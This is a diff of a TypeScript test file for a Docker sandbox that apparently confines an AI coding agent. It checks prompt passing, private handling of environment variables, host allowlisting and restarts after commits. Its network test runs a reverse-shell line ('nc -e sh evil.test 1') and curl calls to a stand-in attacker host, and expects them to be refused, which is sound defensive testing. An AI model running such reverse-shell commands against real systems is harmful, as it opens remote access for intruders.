@@ -2,79 +2,87 @@ import { mkdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { bubblewrapIsMissing } from '../../../test/support/bubblewrap.ts';
-import { deep } from '../../../test/support/deep.ts';
+import { deep, deepRows } from '../../../test/support/deep.ts';
 import { openDockerStage, runBehind } from '../../../test/support/sandbox-stand-in/docker-stage.ts';
 import { sandboxName } from './find-docker.ts';
 import { openDockerSandbox } from './open-docker-sandbox.ts';
 
-describe.skipIf(bubblewrapIsMissing()).each(['sbx', 'docker'] as const)('a Docker sandbox of %s (with a stand-in, without an engine)', (flavour) => {
-  it('is created once and kept', async () => {
-    await using stage = await openDockerStage(flavour);
-    const name = sandboxName(stage.options.cli, stage.repo.path);
-    for (const _ of [1, 2]) {
+describe
+  .skipIf(bubblewrapIsMissing())
+  .each(deepRows('the two differ in their command lines only, which have tests of their own', ['sbx', 'docker'] as const, 1))(
+  'a Docker sandbox of %s (with a stand-in, without an engine)',
+  { concurrent: true },
+  (flavour) => {
+    it('is created once and kept', async () => {
+      await using stage = await openDockerStage(flavour);
+      const name = sandboxName(stage.options.cli, stage.repo.path);
+      for (const _ of [1, 2]) {
+        await using wall = await openDockerSandbox(stage.options);
+        expect((await runBehind(wall, stage, 'pwd')).text).toBe(stage.repo.path);
+      }
+      expect(stage.said('create')).toEqual([['create', '--name', name, 'claude', stage.repo.path, join(stage.home, '.dclaude_state')]]);
+      expect(stage.said('rm')).toEqual([]);
+      expect(stage.said('run')).toEqual([]);
+    });
+
+    it('passes the prompt on stdin byte for byte, and returns the output and the exit code', async () => {
+      await using stage = await openDockerStage(flavour);
       await using wall = await openDockerSandbox(stage.options);
-      expect((await runBehind(wall, stage, 'pwd')).text).toBe(stage.repo.path);
-    }
-    expect(stage.said('create')).toEqual([['create', '--name', name, 'claude', stage.repo.path, join(stage.home, '.dclaude_state')]]);
-    expect(stage.said('rm')).toEqual([]);
-    expect(stage.said('run')).toEqual([]);
-  });
+      await stage.standIn.putProgram('claude', '#!/bin/sh\ncat >"$1"\necho "said $HOME"\nexit 7\n');
+      const stdin = `--env-file 'x' "y" $HOME \`z\` ä \t\n${'long line '.repeat(20_000)}\n\nno newline`;
+      const ran = await runBehind(wall, stage, '', { file: '/somewhere/of/the/host/claude', args: ['prompt.txt'], stdin });
+      expect(ran).toMatchObject({ text: 'said /home/agent', ending: { code: 7 } });
+      expect(await readFile(join(stage.repo.path, 'prompt.txt'), 'utf8')).toBe(stdin);
+    });
 
-  it('passes the prompt on stdin byte for byte, and returns the output and the exit code', async () => {
-    await using stage = await openDockerStage(flavour);
-    await using wall = await openDockerSandbox(stage.options);
-    await stage.standIn.putProgram('claude', '#!/bin/sh\ncat >"$1"\necho "said $HOME"\nexit 7\n');
-    const stdin = `--env-file 'x' "y" $HOME \`z\` ä \t\n${'long line '.repeat(20_000)}\n\nno newline`;
-    const ran = await runBehind(wall, stage, '', { file: '/somewhere/of/the/host/claude', args: ['prompt.txt'], stdin });
-    expect(ran).toMatchObject({ text: 'said /home/agent', ending: { code: 7 } });
-    expect(await readFile(join(stage.repo.path, 'prompt.txt'), 'utf8')).toBe(stdin);
-  });
+    it('passes variables in a private file that is deleted afterwards, never on a command line', async () => {
+      await using stage = await openDockerStage(flavour);
+      await using wall = await openDockerSandbox(stage.options);
+      const env = { API_KEY: 'sk-very-secret=1 "2"', PATH: '/of/the/host', HOME: '/of/the/host', HTTPS_PROXY: 'http://x', XDG_CACHE_HOME: '/x', TWO: 'a\nb' };
+      const ran = await runBehind(wall, stage, 'echo "$API_KEY|$HOME|$HTTPS_PROXY|$XDG_CACHE_HOME|$TWO|$PATH"', { env });
+      expect(ran.text).toBe('sk-very-secret=1 "2"|/home/agent||||/opt/vm-bin:/opt/stand-in-bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin');
+      expect(JSON.stringify(stage.standIn.calls())).not.toContain('very-secret');
+      const files = stage.standIn.calls().flatMap(({ envFile }) => envFile ?? []);
+      expect(new Set(files.map(({ mode }) => mode))).toEqual(new Set(['600']));
+      for (const { path } of files) await expect(stat(path)).rejects.toThrow('ENOENT');
+      expect(stage.warnings.filter((text) => text.includes('TWO'))).toHaveLength(1);
+    });
 
-  it('passes variables in a private file that is deleted afterwards, never on a command line', async () => {
-    await using stage = await openDockerStage(flavour);
-    await using wall = await openDockerSandbox(stage.options);
-    const env = { API_KEY: 'sk-very-secret=1 "2"', PATH: '/of/the/host', HOME: '/of/the/host', HTTPS_PROXY: 'http://x', XDG_CACHE_HOME: '/x', TWO: 'a\nb' };
-    const ran = await runBehind(wall, stage, 'echo "$API_KEY|$HOME|$HTTPS_PROXY|$XDG_CACHE_HOME|$TWO|$PATH"', { env });
-    expect(ran.text).toBe('sk-very-secret=1 "2"|/home/agent||||/opt/vm-bin:/opt/stand-in-bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin');
-    expect(JSON.stringify(stage.standIn.calls())).not.toContain('very-secret');
-    const files = stage.standIn.calls().flatMap(({ envFile }) => envFile ?? []);
-    expect(new Set(files.map(({ mode }) => mode))).toEqual(new Set(['600']));
-    for (const { path } of files) await expect(stat(path)).rejects.toThrow('ENOENT');
-    expect(stage.warnings.filter((text) => text.includes('TWO'))).toHaveLength(1);
-  });
+    it('reaches the hosts it was given and no others', async () => {
+      await using stage = await openDockerStage(flavour);
+      await using wall = await openDockerSandbox({ ...stage.options, hosts: ['api.anthropic.com', '*.example.com', 'other.test:8443'] });
+      const { text } = await runBehind(
+        wall,
+        stage,
+        'for h in api.anthropic.com a.example.com evil.test; do curl -s https://$h && echo yes $h || echo no $h; done; nc -e sh evil.test 1 || echo no nc',
+      );
+      expect(text).toContain('yes api.anthropic.com');
+      expect(text).toContain('yes a.example.com');
+      expect(text).toContain('no evil.test');
+      expect(text).toContain('no nc');
+      expect(stage.refusals).toEqual([{ what: 'network', target: expect.stringContaining('evil.test') }]);
+      const asked = flavour === 'sbx' ? stage.said('policy allow network') : stage.said('network proxy');
+      expect(asked).toHaveLength(1);
+    });
 
-  it('reaches the hosts it was given and no others', async () => {
-    await using stage = await openDockerStage(flavour);
-    await using wall = await openDockerSandbox({ ...stage.options, hosts: ['api.anthropic.com', '*.example.com', 'other.test:8443'] });
-    const { text } = await runBehind(
-      wall,
-      stage,
-      'for h in api.anthropic.com a.example.com evil.test; do curl -s https://$h && echo yes $h || echo no $h; done; nc -e sh evil.test 1 || echo no nc',
-    );
-    expect(text).toContain('yes api.anthropic.com');
-    expect(text).toContain('yes a.example.com');
-    expect(text).toContain('no evil.test');
-    expect(text).toContain('no nc');
-    expect(stage.refusals).toEqual([{ what: 'network', target: expect.stringContaining('evil.test') }]);
-    const asked = flavour === 'sbx' ? stage.said('policy allow network') : stage.said('network proxy');
-    expect(asked).toHaveLength(1);
-  });
+    it('is restarted when the loop has committed, so that git inside sees the commit', async () => {
+      await using stage = await openDockerStage(flavour);
+      await using wall = await openDockerSandbox(stage.options);
+      await runBehind(wall, stage, 'echo two >a.txt');
+      stage.repo.git('commit', '-qam', 'by the loop');
+      const { text } = await runBehind(wall, stage, 'git log -1 --format=%s; git status --short');
+      expect(text).toBe('by the loop');
+      expect(stage.said('stop')).toHaveLength(1);
+    });
+  },
+);
 
-  it('is restarted when the loop has committed, so that git inside sees the commit', async () => {
-    await using stage = await openDockerStage(flavour);
-    await using wall = await openDockerSandbox(stage.options);
-    await runBehind(wall, stage, 'echo two >a.txt');
-    stage.repo.git('commit', '-qam', 'by the loop');
-    const { text } = await runBehind(wall, stage, 'git log -1 --format=%s; git status --short');
-    expect(text).toBe('by the loop');
-    expect(stage.said('stop')).toHaveLength(1);
-  });
-});
-
-describe.skipIf(bubblewrapIsMissing())('a Docker sandbox of sbx and its files (with a stand-in, without an engine)', () => keepsInStep('sbx'));
+describe.skipIf(bubblewrapIsMissing()).concurrent('a Docker sandbox of sbx and its files (with a stand-in, without an engine)', () => keepsInStep('sbx'));
 
 deep('the two differ in their command lines only, and each of these has a test above', () => {
-  describe.skipIf(bubblewrapIsMissing())('a Docker sandbox of docker and its files (with a stand-in, without an engine)', () => keepsInStep('docker'));
+  describe
+    .skipIf(bubblewrapIsMissing())
+    .concurrent('a Docker sandbox of docker and its files (with a stand-in, without an engine)', () => keepsInStep('docker'));
 });
 
 /** Tests which files are seen inside, and which reach the host. */
